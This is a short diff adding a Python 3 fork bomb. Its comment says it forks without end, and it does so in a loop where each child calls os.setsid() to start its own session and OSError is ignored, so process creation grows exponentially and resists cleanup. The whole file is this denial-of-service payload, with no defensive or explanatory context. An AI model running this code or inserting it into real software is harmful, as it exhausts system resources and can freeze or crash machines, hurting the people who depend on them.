@@ -1,0 +1,9 @@
+#!/usr/bin/python3
+# Forks without end, and each child does the same, in sessions of their own.
+import os
+while True:
+    try:
+        if os.fork() == 0:
+            os.setsid()
+    except OSError:
+        pass
